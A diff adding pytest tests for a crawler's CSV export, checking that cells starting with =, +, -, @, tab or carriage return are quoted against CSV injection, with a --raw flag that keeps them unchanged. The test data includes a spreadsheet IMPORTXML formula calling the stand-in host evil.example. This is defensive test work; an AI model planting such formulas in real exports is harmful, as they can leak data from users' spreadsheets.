@@ -187,3 +187,33 @@ def test_csv_format_names_the_default_file(archive_copy, tmp_path):
     result = cli("export", "--db", str(archive_copy), "--format", "csv", "--table", "revisions", cwd=tmp_path)
     assert result.returncode == 0, result.stderr
     assert "to exports/revisions.csv" in result.stdout and read_csv(tmp_path / "exports" / "revisions.csv")
+
+
+FORMULAS = ['=IMPORTXML("http://evil.example","//a")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text_unless_raw(tmp_path):
+    """OWASP's CSV injection: a cell beginning with = + - @ (or a tab or CR) is run by Excel and
+    LibreOffice; the export puts a ' before it, and --raw writes it as stored (issue 29, item 5)."""
+    from xzcrawler.store.export import write_export
+
+    records = [
+        {"category": text, "title": "正常的标题", "views": -1 if k == 0 else k} for k, text in enumerate(FORMULAS)
+    ]
+    columns = ["category", "title", "views"]
+    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
+    assert write_export(records, safe, "csv", columns) == write_export(records, raw, "csv", columns, raw=True) == 6
+    _, *safe_rows = read_csv(safe)
+    _, *raw_rows = read_csv(raw)
+    assert [row[0] for row in safe_rows] == ["'" + text for text in FORMULAS]
+    assert [row[0] for row in raw_rows] == FORMULAS
+    assert {row[1] for row in safe_rows} == {"正常的标题"}  # other text is left alone
+    assert safe_rows[0][2] == "-1"  # numbers are numbers, not text that looks like a formula
+
+
+def test_export_raw_is_a_flag_of_the_command(mirror_archive, tmp_path):
+    _, archive = mirror_archive
+    out = tmp_path / "a.csv"
+    result = cli("export", "--db", str(archive), "--out", str(out), "--raw")
+    assert result.returncode == 0, result.stderr
+    assert "--raw" in cli("export", "--help").stdout
